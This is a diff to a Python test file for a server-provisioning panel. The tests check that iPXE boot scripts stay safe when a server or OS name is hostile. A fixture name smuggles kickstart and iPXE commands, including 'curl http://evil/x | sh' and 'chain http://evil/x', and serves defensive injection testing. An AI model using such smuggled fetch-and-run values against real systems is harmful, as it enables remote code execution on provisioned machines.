@@ -20,7 +20,7 @@ from inventory import ipam
 from inventory.models import Server
 from panel.models import SshKey
 from provisioning import installers, services
-from provisioning.models import OsTemplate
+from provisioning.models import Operation, OsTemplate
 from tests.factories import ECDSA, ED25519, RSA_1024, make_pool, make_server
 
 NAME = "evil\n%end\n%pre\ncurl http://evil/x | sh\n%end\nchain http://evil/x\r\n#!ipxe"
@@ -203,7 +203,9 @@ def boot_script(client, server, customer) -> str:
     key = SshKey.objects.create(
         user=customer, name=server.mac, public_key=ED25519, fingerprint=server.mac
     )
-    services.start_install(actor=customer, server=server, template=template, ssh_keys=[key])
+    op = services.start_install(actor=customer, server=server, template=template, ssh_keys=[key])
+    # The panel has rebooted the machine into the network: only now is the installer served.
+    Operation.objects.filter(pk=op.pk).update(state=Operation.State.RUNNING, step="wait_pxe")
     return client.get("/boot/ipxe", {"mac": server.mac}).content.decode()
 
 
@@ -216,6 +218,7 @@ def test_the_ipxe_boot_script_with_a_hostile_name_and_os_runs_only_its_own_comma
     OsTemplate.objects.filter(name="AlmaLinux 9").update(name=OS_NAME)
     script = boot_script(client, server, customer)
     assert script.startswith("#!ipxe\n")
+    assert any(command[0] == "kernel" for command in ipxe_commands(script)), script
     assert ipxe_commands(script) == ipxe_commands(benign), script
     assert "${" not in script
     assert "&amp;" not in script and "&#x27;" not in script  # iPXE is not HTML
